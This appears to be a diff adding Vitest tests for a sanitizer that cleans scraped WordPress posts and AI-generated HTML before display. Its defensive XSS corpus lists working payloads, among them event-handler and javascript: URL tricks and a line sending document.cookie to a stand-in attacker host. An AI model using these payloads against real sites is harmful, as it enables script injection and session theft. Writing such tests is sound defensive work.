@@ -0,0 +1,213 @@
+/**
+ * ALEXANDRIAN SCRAPING - Sanitizer Tests
+ *
+ * sanitizeHtml() cleans scraped content and AI output before it is stored and
+ * rendered with v-html (sanitize.ts). The XSS corpus below lists payloads from
+ * both sources; every one must come out without a way to run script.
+ * sanitizeStoredHtml() runs against the in-memory Supabase stand-in.
+ */
+
+import { describe, expect, it, vi } from 'vitest'
+import { JSDOM } from 'jsdom'
+import { sanitizeHtml, sanitizeStoredHtml } from '../../server/utils/sanitize'
+import { createFakeSupabase } from '../helpers/supabase'
+
+const baseUrl = 'https://thealexandrian.net/wordpress/1118/roleplaying-games/three-clue-rule'
+
+/** Payloads found in (or injectable into) WordPress post bodies and comments */
+const scrapedPayloads = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">click</a>',
+  '<a href="JaVaScRiPt:alert(1)">click</a>',
+  '<a href="java\tscript:alert(1)">click</a>',
+  '<a href="&#106;avascript:alert(1)">click</a>',
+  '<a href=" \u0001javascript:alert(1)">click</a>',
+  '<a href="vbscript:msgbox(1)">click</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
+  '<body onload=alert(1)>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<object data="https://evil.example/x.swf"></object>',
+  '<embed src="https://evil.example/x.swf">',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg onload=alert(1)>',
+  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
+  '<form action="https://evil.example"><input type="submit"></form>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<div style="background:url(javascript:alert(1))">styled</div>',
+  '<p style="behavior:url(x.htc)">styled</p>',
+  '<!--<img src=x onerror=alert(1)>-->',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<blockquote cite="javascript:alert(1)">quote</blockquote>',
+]
+
+/** Payloads an LLM could return in ai_content (echoed, hallucinated or prompt-injected) */
+const aiPayloads = [
+  '```html\n<div class="prose"><script>fetch("https://evil.example/?c="+document.cookie)</script></div>\n```',
+  '<div class="p-4" onmouseover="alert(1)">Hover</div>',
+  '<button onclick="alert(1)">Read more</button>',
+  '<a class="text-blue-600" href="javascript:void(alert(1))">Link</a>',
+  '<img class="rounded" src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<details open ontoggle=alert(1)><summary>More</summary></details>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)></audio>',
+  '<marquee onstart=alert(1)>News</marquee>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<style>@import "https://evil.example/x.css";</style><p>Styled</p>',
+  '<a href="https://thealexandrian.net" target="_blank">Tab</a>',
+  '<input autofocus onfocus=alert(1)>',
+  '<scr<script>ipt>alert(1)</script>',
+]
+
+/**
+ * Lists everything in sanitized HTML that could run script.
+ */
+function findScriptVectors(html: string): string[] {
+  const { document } = new JSDOM(`<!DOCTYPE html><body>${html}</body>`).window
+  const found: string[] = []
+
+  for (const el of Array.from(document.body.querySelectorAll('*'))) {
+    const tag = el.tagName.toLowerCase()
+    if (['script', 'iframe', 'object', 'embed', 'svg', 'math', 'style', 'form', 'base', 'meta', 'link'].includes(tag)) {
+      found.push(`<${tag}>`)
+    }
+
+    for (const { name, value } of Array.from(el.attributes)) {
+      if (name.startsWith('on') || name === 'style') found.push(`${tag}[${name}]`)
+      if (['href', 'src', 'cite', 'action', 'data'].includes(name) && !/^(https?:|mailto:|tel:|#|\/assets\/)/i.test(value)) {
+        found.push(`${tag}[${name}=${value}]`)
+      }
+    }
+  }
+
+  return found
+}
+
+describe('sanitizeHtml XSS corpus', () => {
+  for (const [source, payloads] of [['scraped', scrapedPayloads], ['AI', aiPayloads]] as const) {
+    for (const payload of payloads) {
+      it(`neutralizes ${source} payload ${JSON.stringify(payload)}`, () => {
+        const clean = sanitizeHtml(payload, { baseUrl })
+
+        expect(findScriptVectors(clean)).toEqual([])
+        // Sanitizing twice changes nothing
+        expect(sanitizeHtml(clean, { baseUrl })).toBe(clean)
+      })
+    }
+  }
+})
+
+describe('sanitizeHtml', () => {
+  it('keeps formatting and images', () => {
+    const html = '<h2 title="Rule">Clues</h2><p>Three <strong>clues</strong> per <em>conclusion</em>.</p>'
+      + '<img src="https://thealexandrian.net/images/clue.jpg" alt="Clue" width="300" height="200">'
+
+    expect(sanitizeHtml(html, { baseUrl })).toBe(html)
+  })
+
+  it('drops class and id attributes', () => {
+    expect(sanitizeHtml('<div class="fixed inset-0 z-50" id="__nuxt"><p class="text-2xl">Text</p></div>'))
+      .toBe('<div><p>Text</p></div>')
+  })
+
+  it('rewrites relative links and images to absolute URLs', () => {
+    const html = '<p><a href="/wordpress/1119/next">Next</a> <img src="../images/x.jpg"></p>'
+
+    expect(sanitizeHtml(html, { baseUrl })).toBe(
+      '<p><a href="https://thealexandrian.net/wordpress/1119/next">Next</a> '
+      + '<img src="https://thealexandrian.net/wordpress/1118/images/x.jpg"></p>',
+    )
+  })
+
+  it('keeps in-page anchors, mirrored assets and internal links relative', () => {
+    const html = '<p><a href="#comments">Comments</a><img src="/assets/ab/cd.jpg"><a href="/post/7b6c0d4e">Post</a></p>'
+
+    expect(sanitizeHtml(html, { baseUrl })).toBe(html)
+  })
+
+  it('removes WordPress share buttons, like boxes and related posts', () => {
+    const html = '<p>Content</p><div class="sharedaddy sd-sharing-enabled"><a href="https://facebook.com">Share</a></div>'
+      + '<div id="jp-post-flair"><div class="sd-like">Like this</div></div><div class="yarpp-related"><p>Related</p></div>'
+
+    expect(sanitizeHtml(html, { baseUrl })).toBe('<p>Content</p>')
+  })
+
+  it('removes extra selectors passed by the caller', () => {
+    expect(sanitizeHtml('<p>Content</p><p class="ad">Buy now</p>', { removeSelectors: ['.ad'] })).toBe('<p>Content</p>')
+  })
+
+  it('unwraps unknown tags and bare spans, keeping their text', () => {
+    expect(sanitizeHtml('<p><font color="red">Red</font> <span class="x">plain</span> <span lang="fr">gardé</span></p>'))
+      .toBe('<p>Red plain <span lang="fr">gardé</span></p>')
+  })
+
+  it('drops empty paragraphs and blocks', () => {
+    expect(sanitizeHtml('<p>&nbsp;</p><div> <p></p> </div><p>Text</p><p><img src="https://x.test/a.png"></p>'))
+      .toBe('<p>Text</p><p><img src="https://x.test/a.png"></p>')
+  })
+
+  it('adds rel="noopener noreferrer" to links opening a new tab and drops other targets', () => {
+    expect(sanitizeHtml('<a href="https://x.test" target="_blank" rel="opener">A</a><a href="https://x.test" target="_top">B</a>'))
+      .toBe('<a href="https://x.test/" target="_blank" rel="noopener noreferrer">A</a><a href="https://x.test/">B</a>')
+  })
+})
+
+describe('sanitizeStoredHtml', () => {
+  const changedAt = '2026-10-18T10:00:00.000000+00:00'
+
+  it('cleans stored articles and comments, leaving clean rows alone', async () => {
+    vi.spyOn(console, 'info').mockImplementation(() => {})
+    const { client, tables } = createFakeSupabase({
+      articles: [
+        { id: 'a1', link: baseUrl, content: '<p class="x" onclick="alert(1)">Old</p><a href="/wordpress/1119/next">Next</a>', ai_content: '<h2 class="text-2xl">AI</h2>', content_changed_at: changedAt },
+        { id: 'a2', link: baseUrl, content: '<p>Clean</p>', ai_content: null, content_changed_at: changedAt },
+      ],
+      comments: [
+        { id: 'c1', article_id: 'a1', content_html: '<p>Nice<img src=x onerror=alert(1)></p>' },
+        { id: 'c2', article_id: 'a1', content_html: null },
+      ],
+    })
+
+    const result = await sanitizeStoredHtml(client)
+
+    expect(result).toEqual({ articles: 2, articlesCleaned: 1, articlesSkipped: 0, comments: 1, commentsCleaned: 1, cancelled: false })
+    expect(tables.articles[0]).toMatchObject({
+      content: '<p>Old</p><a href="https://thealexandrian.net/wordpress/1119/next">Next</a>',
+      ai_content: '<h2>AI</h2>',
+    })
+    expect(tables.comments[0].content_html).toBe('<p>Nice<img src="https://thealexandrian.net/wordpress/1118/roleplaying-games/x"></p>')
+    expect(tables.comments[1].content_html).toBeNull()
+  })
+
+  it('skips an article re-scraped while the pass ran', async () => {
+    vi.spyOn(console, 'info').mockImplementation(() => {})
+    const { client, tables } = createFakeSupabase({
+      articles: [{ id: 'a1', link: baseUrl, content: '<p class="x">Old</p>', ai_content: null, content_changed_at: changedAt }],
+    }, {
+      // The scrape lands between the read and the write
+      failWrite: (table) => {
+        if (table === 'articles') Object.assign(tables.articles[0], { content: '<p>New</p>', content_changed_at: '2026-10-18T10:05:00.000000+00:00' })
+        return null
+      },
+    })
+
+    const result = await sanitizeStoredHtml(client)
+
+    expect(result).toMatchObject({ articlesCleaned: 0, articlesSkipped: 1 })
+    expect(tables.articles[0].content).toBe('<p>New</p>')
+  })
+
+  it('stops between pages when the job is cancelled', async () => {
+    const { client, tables } = createFakeSupabase({
+      articles: [{ id: 'a1', link: baseUrl, content: '<p class="x">Old</p>', ai_content: null, content_changed_at: changedAt }],
+    })
+
+    expect(await sanitizeStoredHtml(client, { isCancelled: async () => true })).toMatchObject({ articles: 0, cancelled: true })
+    expect(tables.articles[0].content).toBe('<p class="x">Old</p>')
+  })
+})